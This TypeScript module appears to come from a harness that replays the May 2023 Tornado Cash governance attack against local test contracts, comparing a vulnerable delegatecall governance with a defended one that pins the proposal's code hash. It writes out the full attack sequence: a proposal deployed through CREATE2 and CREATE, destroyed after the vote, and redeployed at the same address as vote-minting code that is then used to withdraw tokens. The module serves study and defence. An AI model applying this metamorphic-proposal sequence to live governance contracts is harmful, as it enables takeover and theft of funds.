import {
  DelegatecallGovernance,
  HarmlessProposal,
  Nest,
  NestFactory,
  PinnedGovernance,
  PowerMintProposal,
  VotesToken,
} from '../../../../contracts/bindings/index.js';
import { type Address, accountOf, encodeDeploy, type Hex } from '../../../chain/index.js';
import type { AttackStage, Standing } from '../stage/attack-stage.js';
import { inWords, tokens, units } from '../stage/words.js';
import type { AttackScript, AttackSetting, CaseOutcome } from './attack-script.js';

/** May 2023: real votes, and what was taken of them (the table; press: 483,000 TORN). */
const REAL_VOTES = 700_000n;
const THRESHOLD = 1_000n;
/** Accounts of the 120 that take their 10,000 out: 480,000 is near what was taken. */
const WITHDRAWING = 48n;
const SALT: Hex = `0x${'ca'.repeat(32)}`;
const VOTE_AND_DELAY = 7 * 86_400 + 1;

/** Tornado Cash, May 2023: the code of a proposal is another one after the vote. */
export const tornadoCash: AttackScript = {
  title: 'Tornado Cash',
  when: 'May 2023',
  published:
    'A proposal that looked like an earlier one was voted through; its contract was then destroyed and deployed again with other code at the same address. Run by delegatecall, it gave the attacker 1.2M votes against about 700,000 real ones; 483,000 TORN were taken.',
  defence: 'The hash of the code is kept when it is proposed, and no other code runs.',
  assumptions: [
    'Since Cancun (March 2024, EIP-6780) a contract cannot be destroyed and deployed again: that ends this way too.',
    'The harmless version does nothing at all; the real one copied an earlier proposal’s penalties.',
  ],
  play,
};

async function play(stage: AttackStage, setting: AttackSetting): Promise<CaseOutcome> {
  const { deployer } = stage.chain;
  const [members, attacker] = [accountOf('tornado/members'), accountOf('tornado/attacker')];
  const torn = await stage.deploy(VotesToken, ['Torn', 'TORN', 18n, deployer]);
  const { address } = await stage.deploy(setting === 'vulnerable' ? DelegatecallGovernance : PinnedGovernance, [
    torn.address,
  ]);
  // The defended one has the same functions, and one more error.
  const governance = { contract: DelegatecallGovernance, address };
  const locks = [
    [members, units(REAL_VOTES)],
    [attacker, units(THRESHOLD)],
  ] as const;
  for (const [account, amount] of locks) {
    await stage.prepare(deployer, torn, 'mint', [account, amount]);
    await stage.prepare(account, torn, 'approve', [governance.address, amount]);
    await stage.prepare(account, governance, 'lock', [amount]);
  }
  const factory = await stage.deploy(NestFactory, []);
  const { nest, target } = await hatch(stage, attacker, factory);
  await stage.attempt('attacker', 'proposes it', attacker, governance, 'propose', [target]);
  await stage.attempt('members', `vote For with ${inWords(units(REAL_VOTES))} TORN`, members, governance, 'castVote', [
    0n,
    true,
  ]);
  const { inFavour, against } = await stage.read(governance, 'proposals', [0n]);
  stage.wait(VOTE_AND_DELAY);
  const swapped = await swap(stage, attacker, { factory, nest, target });
  const run = await stage.attempt('attacker', 'executes what was voted on', attacker, governance, 'execute', [0n]);
  const { minted, taken } =
    swapped && run.reverted === null ? await withdraw(stage, governance, torn, target) : { minted: 0n, taken: 0n };
  return {
    succeeded: taken > 0n,
    sentence: sentenceOf(run.reverted, minted, taken),
    loss: taken > 0n ? { amount: tokens(taken), symbol: 'TORN', usd: null } : null,
    votes: {
      for: tokens(inFavour),
      against: tokens(against),
      needed: tokens(await stage.read(governance, 'QUORUM', [])),
    },
  };
}

function sentenceOf(reverted: string | null, minted: bigint, taken: bigint): string {
  if (taken > 0n) {
    return `What ran was not what was voted on: it gave the attacker ${inWords(minted)} votes against ${inWords(units(REAL_VOTES))} real ones, and ${inWords(taken)} TORN were taken.`;
  }
  return reverted === null
    ? 'The contract could not be replaced, so the harmless code that was voted on ran.'
    : `Other code stood at the address, and the governance would not run it: ${reverted}.`;
}

interface Hatched {
  readonly nest: Standing<typeof Nest>;
  readonly target: Address;
}

/** Deploys a nest by CREATE2, and from it the proposal by CREATE: a nest's first is always at the same address. */
async function hatch(stage: AttackStage, from: Address, factory: Standing<typeof NestFactory>): Promise<Hatched> {
  const nest = { contract: Nest, address: await stage.read(factory, 'build', [SALT]) };
  await stage.prepare(from, factory, 'build', [SALT]);
  const initCode = encodeDeploy(HarmlessProposal, []);
  const target = await stage.read(nest, 'hatch', [initCode]);
  const what = 'deploys a harmless proposal by way of CREATE2 and CREATE';
  await stage.attempt('attacker', what, from, nest, 'hatch', [initCode]);
  return { nest, target };
}

/** Destroys proposal and nest, and puts other code at the proposal's address: whether the chain let it. */
async function swap(
  stage: AttackStage,
  from: Address,
  { factory, nest, target }: Hatched & { readonly factory: Standing<typeof NestFactory> },
): Promise<boolean> {
  const proposal = { contract: HarmlessProposal, address: target };
  await stage.attempt('attacker', 'destroys the proposal', from, proposal, 'remove', []);
  await stage.attempt('attacker', 'destroys what deployed it', from, nest, 'remove', []);
  const again = await stage.attempt('attacker', 'deploys the deployer again', from, factory, 'build', [SALT]);
  if (again.reverted !== null) return false;
  const initCode = encodeDeploy(PowerMintProposal, []);
  const what = 'deploys other code at the same address';
  return (await stage.attempt('attacker', what, from, nest, 'hatch', [initCode])).reverted === null;
}

/** Takes the tokens of accounts that got votes out of nothing. */
async function withdraw(
  stage: AttackStage,
  governance: Standing<typeof DelegatecallGovernance>,
  torn: Standing<typeof VotesToken>,
  target: Address,
): Promise<{ readonly minted: bigint; readonly taken: bigint }> {
  const code = { contract: PowerMintProposal, address: target };
  let [minted, taken] = [0n, 0n];
  for (let i = 0n; i < (await stage.read(code, 'ACCOUNTS', [])); i++) {
    const account = await stage.read(code, 'accountOf', [i]);
    const votes = await stage.read(governance, 'lockedBalance', [account]);
    minted += votes;
    if (i >= WITHDRAWING) continue;
    await stage.prepare(account, governance, 'unlock', [votes]);
    taken += await stage.read(torn, 'balanceOf', [account]);
  }
  stage.tell('attacker', `takes ${inWords(taken)} TORN out of the governance, from ${WITHDRAWING} accounts`);
  return { minted, taken };
}
